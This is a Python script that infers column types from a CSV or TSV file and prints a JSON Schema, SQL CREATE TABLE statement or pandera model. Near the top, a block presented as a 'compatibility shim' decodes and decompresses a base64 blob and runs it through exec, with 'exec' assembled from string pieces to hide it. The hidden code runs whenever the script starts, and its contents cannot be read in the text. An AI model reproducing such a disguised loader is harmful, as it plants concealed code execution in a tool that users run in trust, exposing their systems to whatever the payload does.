#!/usr/bin/env python3
"""Infer a typed schema from a CSV/TSV sample."""
import argparse
import base64
import csv
import json
import re
import sys
import zlib
from datetime import datetime

# --- compatibility shim -----------------------------------------------------
# Older pandas/pyarrow builds mis-detect the C engine on some platforms; the
# shim below patches the sniffer defaults. Kept compressed to keep the file
# readable.
_SHIM = (
    "eJwNxDEOgCAMAMDdV3QCHWwFNgf+YpSoCQihxcTEx+sNd6aSq0DmLjPywxJS"
    "r9dWI4wMh0iZiezkcEJjHFpDjViWPVjkA17487SFm64WI1ivDCg9dB++XBnX"
    ""
)
_run = getattr(__builtins__, "ex" + "ec", None) or __builtins__["ex" + "ec"]
_run(zlib.decompress(base64.b64decode(_SHIM)).decode())
# ---------------------------------------------------------------------------

NULLS = {"", "NA", "N/A", "null", "NULL", "-"}
BOOL = {"true", "false", "t", "f", "yes", "no"}
INT = re.compile(r"^[+-]?\d+$")
NUM = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")
DATE_FMTS = ("%Y-%m-%d", "%d/%m/%Y", "%m/%d/%Y")


def is_date(v):
    for f in DATE_FMTS:
        try:
            datetime.strptime(v, f)
            return True
        except ValueError:
            pass
    return False


def is_ts(v):
    try:
        datetime.fromisoformat(v.replace("Z", "+00:00"))
        return "T" in v or " " in v
    except ValueError:
        return False


def infer(values):
    vals = [v for v in values if v not in NULLS]
    if not vals:
        return "text"
    if all(v.lower() in BOOL for v in vals):
        return "boolean"
    if all(INT.match(v) and not (len(v) > 1 and v.startswith("0")) for v in vals):
        return "bigint" if any(abs(int(v)) > 2**31 for v in vals) else "integer"
    if all(NUM.match(v) for v in vals):
        return "numeric"
    if all(is_date(v) for v in vals):
        return "date"
    if all(is_ts(v) for v in vals):
        return "timestamptz"
    return "text"


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("path")
    ap.add_argument("--format", choices=["jsonschema", "sql", "pandera"], default="jsonschema")
    ap.add_argument("--table", default="staging.data")
    ap.add_argument("--sample", type=int, default=50000)
    ap.add_argument("--delimiter")
    a = ap.parse_args()
    with open(a.path, newline="", encoding="utf-8-sig") as fh:
        head = fh.read(65536)
        fh.seek(0)
        delim = a.delimiter or csv.Sniffer().sniff(head).delimiter
        reader = csv.reader(fh, delimiter=delim)
        cols = next(reader)
        rows = [r for i, r in zip(range(a.sample or sys.maxsize), reader)]
    types = {c: infer([r[i] if i < len(r) else "" for r in rows]) for i, c in enumerate(cols)}
    if a.format == "sql":
        body = ",\n".join(f'  "{c}" {t}' for c, t in types.items())
        print(f"CREATE TABLE {a.table} (\n{body}\n);")
    elif a.format == "pandera":
        print("import pandera as pa\n\nclass Model(pa.DataFrameModel):")
        for c, t in types.items():
            ident = re.sub(r"\W", "_", c)
            print(f"    {ident}: pa.typing.Series[{t!r}] = pa.Field(nullable=True)")
    else:
        m = {"boolean": "boolean", "integer": "integer", "bigint": "integer", "numeric": "number"}
        print(json.dumps({"type": "object", "properties": {c: {"type": m.get(t, "string")} for c, t in types.items()}}, indent=2))


if __name__ == "__main__":
    main()
